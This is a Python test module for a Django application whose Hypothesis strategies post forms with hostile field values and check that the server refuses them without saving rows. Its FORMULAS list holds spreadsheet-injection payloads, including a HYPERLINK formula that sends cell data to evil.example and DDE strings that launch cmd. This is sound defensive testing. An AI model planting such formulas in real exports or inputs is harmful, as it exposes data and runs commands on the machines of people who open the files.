"""Hostile input, tried by a machine: Hypothesis strategies that post a page's form with one field
replaced by what an attacker or a careless paste would type.

A page is driven from its own unbound form (GET, `response.context[form_key]`): the baseline is
the form's initial values, the given `known` values, and a plausible value for each date and
time; one field is then replaced by a hostile value chosen for its type. The rules checked:
- never a server error (the test client re-raises any exception of the view);
- a value that must be refused (non-ASCII or underscored digits, NaN, exponents, bidi and other
  invisible characters, spreadsheet formulas, oversized text, unknown choices) gets an error on
  its own field;
- after any refusal (the page answers 200 with errors), no row and no history row was written.
Each example runs in a savepoint that is rolled back, so one example's save cannot change the
next one's page. Dates and times are only made malformed here (impossible, non-ASCII digits,
words): their plausibility (year 1, tomorrow) is edc's date rule's business and test.
"""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from django import forms
from django.contrib.messages import constants as message_levels
from django.contrib.messages import get_messages
from django.db import connection, transaction
from hypothesis import strategies as st

from edc.audit import AuditedModel
from edc.domain.text_rules import TEXT_LIMIT

NON_ASCII_NUMBERS = ["1_000", "١٢٣", "۱۲", "１２", "१२", "NaN", "nan", "Infinity", "-inf",
                     "1e3", "2E-1", "0x1A", "1,5", "12.5.1", "½", "٣.٥"]  # fmt: skip
BIDI_AND_INVISIBLE = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))] + [
    "\u200b", "\u200f", "\ufeff", "\x00", "\x1b", "\x85", "\U000e0041",
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "=-2+3+cmd|' /C calc'!A0",
    '-2+IMPORTXML(CONCAT(A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "=A1",
]
# Malformed, not implausible: a date's plausibility (year 1, tomorrow) is edc's date rule's test.
MALFORMED_DATES = ["2026-13-45", "2026-02-30", "٢٠٢٦-٠٥-٠١", "２０２６-０５-０１", "yesterday",
                   "1_000-01-01", "2026-05-01\u202e"]  # fmt: skip
MALFORMED_DATETIMES = ["2026-05-01T25:00", "٢٠٢٦-٠٥-٠١T10:00", "２０２６-０５-０１T10:00",
                       "2026-05-01T١٠:٠٠", "now", "2026-05-01T10:00\u2066"]  # fmt: skip
MALFORMED_TIMES = ["25:61", "١٠:٠٠", "１０:００", "noon"]
TEXT_FIELDS = (forms.CharField,)
NUMBER_FIELDS = (forms.IntegerField, forms.DecimalField, forms.FloatField)
SKIPPED_FIELDS = (
    forms.BooleanField,
    forms.UUIDField,
    forms.ModelChoiceField,
)


@dataclass(frozen=True)
class Hostile:
    """One field's hostile value; `refused` says it must get an error on that field."""

    field: str
    value: str
    refused: bool


def _text_limit(field: forms.CharField) -> int:
    return field.max_length or TEXT_LIMIT


def _number_values() -> st.SearchStrategy[tuple[str, bool]]:
    refused = st.sampled_from(NON_ASCII_NUMBERS).map(lambda v: (v, True))
    # Out of range or of huge precision: a field may accept some; never a server error.
    huge = st.integers(min_value=-(10**40), max_value=10**40).map(lambda v: (str(v), False))
    fine = st.decimals(allow_nan=False, allow_infinity=False, places=6).map(
        lambda v: (format(v, "f"), False)
    )
    return st.one_of(refused, huge, fine)


def _text_values(field: forms.CharField) -> st.SearchStrategy[tuple[str, bool]]:
    invisible = st.tuples(
        st.text(st.characters(codec="utf-8", categories=["L", "N", "Zs"]), max_size=10),
        st.sampled_from(BIDI_AND_INVISIBLE),
        st.text(st.characters(codec="utf-8", categories=["L", "N"]), min_size=1, max_size=10),
    ).map(lambda parts: ("".join(parts), True))
    formula = st.sampled_from(FORMULAS).map(lambda v: (v, True))
    oversized = st.just(("x" * (_text_limit(field) + 1), True))
    anything = st.text(max_size=60).map(lambda v: (v, False))
    return st.one_of(invisible, formula, oversized, anything)


def _choice_values(field: forms.ChoiceField) -> st.SearchStrategy[tuple[str, bool]]:
    valid = {str(value) for value, _label in field.choices}
    if isinstance(field, forms.MultipleChoiceField):
        return st.nothing()
    return (
        st.text(min_size=1, max_size=20)
        .filter(lambda v: v.strip() not in valid)
        .map(lambda v: (v, not field.disabled))
    )


def values_for(field: forms.Field) -> st.SearchStrategy[tuple[str, bool]] | None:
    """Hostile values for one form field, or None for a field this module does not mutate."""
    if isinstance(field, SKIPPED_FIELDS) or isinstance(field.widget, forms.HiddenInput):
        return None
    if isinstance(field, NUMBER_FIELDS):
        return _number_values()
    for kind, malformed in (
        (forms.DateTimeField, MALFORMED_DATETIMES),
        (forms.DateField, MALFORMED_DATES),
        (forms.TimeField, MALFORMED_TIMES),
    ):
        if isinstance(field, kind):
            return st.sampled_from(malformed).map(lambda v: (v, True))
    if isinstance(field, forms.ChoiceField):
        return _choice_values(field)
    if isinstance(field, TEXT_FIELDS) and not isinstance(field.widget, forms.PasswordInput):
        return _text_values(field)
    return None


def hostile(form: forms.BaseForm) -> st.SearchStrategy[Hostile]:
    """One mutable field of `form` and a hostile value for it."""
    options = {
        name: strategy
        for name, field in form.fields.items()
        if not field.disabled and (strategy := values_for(field)) is not None
    }
    assert options, f"{type(form).__name__} has no field to try"
    return st.sampled_from(sorted(options)).flatmap(
        lambda name: options[name].map(lambda pair: Hostile(name, *pair))
    )


def _as_post(value: Any) -> str | list[str] | None:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "on" if value else None
    if isinstance(value, dt.datetime):
        return value.strftime("%Y-%m-%dT%H:%M")
    if isinstance(value, dt.date | dt.time):
        return value.isoformat()[:10] if isinstance(value, dt.date) else value.strftime("%H:%M")
    if isinstance(value, dict):
        return json.dumps(value)
    if isinstance(value, list | tuple):
        return [str(v) for v in value]
    if isinstance(value, Decimal):
        return format(value, "f")
    return str(getattr(value, "pk", value))


def _plausible(field: forms.Field, on: dt.date) -> Any:
    """A value for a required field left empty: `on` for a date, the first choice, or None."""
    if isinstance(field, forms.DateTimeField):
        return dt.datetime.combine(on, dt.time(10, 0))
    if isinstance(field, forms.DateField):
        return on
    if isinstance(field, forms.TimeField):
        return dt.time(10, 0)
    if isinstance(field, forms.ChoiceField):
        return next((value for value, _label in field.choices if value not in ("", None)), None)
    return None


def baseline(form: forms.BaseForm, *, known: Mapping[str, Any], on: dt.date) -> dict[str, Any]:
    """POST data from the form's initial values, `known` values, and `on` for dates."""
    data: dict[str, Any] = {}
    for name, field in form.fields.items():
        value = known.get(name, form[name].value())
        if value in (None, "") and field.required:
            value = _plausible(field, on)
        posted = _as_post(value)
        if posted is not None:
            data[form.add_prefix(name)] = posted
    return data


def _counts() -> int:
    """Rows in every audited table and its history table, in one query."""
    from django.apps import apps

    tables = [
        m._meta.db_table
        for m in apps.get_models()
        if issubclass(m, AuditedModel) or m.__name__.startswith("Historical")
    ]
    sql = " + ".join(f"(SELECT count(*) FROM {connection.ops.quote_name(t)})" for t in tables)
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {sql}")
        return cursor.fetchone()[0]


def _errors(response) -> dict[str, list[str]]:
    """Every error of every form the page rendered, by field name ("__all__" at the top)."""
    contexts = response.context if isinstance(response.context, list) else [response.context]
    values = [v for context in contexts if context is not None for v in context.flatten().values()]
    # A page may pass its forms in a dict (the episode page's {"assess": ..., "treat": ...}).
    values += [v for d in values if isinstance(d, dict) for v in d.values()]
    found = {id(v): v for v in values if isinstance(v, forms.BaseForm)}
    errors: dict[str, list[str]] = {}
    for form in found.values():
        for name, messages in form.errors.items():
            errors.setdefault(name, []).extend(messages)
    return errors


def _error_messages(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request) if m.level == message_levels.ERROR]


def try_post(
    post: Callable[[dict[str, Any]], Any],
    data: dict[str, Any],
    attempt: Hostile,
    *,
    prefix: str = "",
    refuses_with_messages: bool = False,
) -> None:
    """Post `data` with the hostile value in place and check the rules of this module.

    `refuses_with_messages`: the page redirects and shows refusals as error messages (the
    eligibility page) instead of re-rendering the form with errors on the fields."""
    key = f"{prefix}{attempt.field}"
    with transaction.atomic():
        before = _counts()
        response = post({**data, key: attempt.value})
        assert response.status_code in (200, 302), response.status_code
        if refuses_with_messages:
            refusals = _error_messages(response)
            if refusals:
                assert _counts() == before, f"{attempt}: refused, yet rows were written"
            assert refusals or not attempt.refused, f"{attempt}: saved"
        elif response.status_code == 200:
            errors = _errors(response)
            assert errors, f"{attempt}: the page answered 200 without an error"
            assert _counts() == before, f"{attempt}: refused, yet rows were written"
        if attempt.refused and not refuses_with_messages:
            assert response.status_code == 200, f"{attempt}: saved"
            assert attempt.field in _errors(response), (attempt, _errors(response))
        transaction.set_rollback(True)


def log_in_investigator(client, subject) -> None:
    """Log `client` in as a new investigator of the subject's site."""
    from edc.roles import Role
    from tests.edc.factories import MembershipFactory, UserFactory

    user = UserFactory()
    MembershipFactory(
        user=user, study=subject.study, study_site=subject.study_site, role=Role.INVESTIGATOR
    )
    client.force_login(user)


# A page's forms and baseline, read once per URL (each test has its own subject, so its own URLs).
_pages: dict[str, tuple[list[forms.BaseForm], dict[str, Any]]] = {}


def drive(
    client,
    url: str,
    data: st.DataObject,
    *,
    forms_of: Callable[[Any], list[forms.BaseForm | None]],
    known: Mapping[str, Any],
    on: dt.date,
    fixed: Mapping[str, str] | None = None,
    refuses_with_messages: bool = False,
) -> None:
    """Post the page at `url` with one hostile value in one of its forms (`forms_of(GET)`),
    the rest being the baseline, and check the rules of this module."""
    if url not in _pages:
        page = client.get(url)
        assert page.status_code == 200
        candidates = [f for f in forms_of(page) if f is not None]
        posted: dict[str, Any] = dict(fixed or {})
        for form in candidates:
            posted |= baseline(form, known=known, on=on)
        _pages[url] = (candidates, posted)
    candidates, posted = _pages[url]
    chosen = data.draw(st.sampled_from(candidates))

    def post(body: dict[str, Any]):
        # Only this request's messages count: a stored one is an earlier example's.
        client.cookies.pop("messages", None)
        return client.post(url, body)

    try_post(
        post,
        posted,
        data.draw(hostile(chosen)),
        prefix=f"{chosen.prefix}-" if chosen.prefix else "",
        refuses_with_messages=refuses_with_messages,
    )
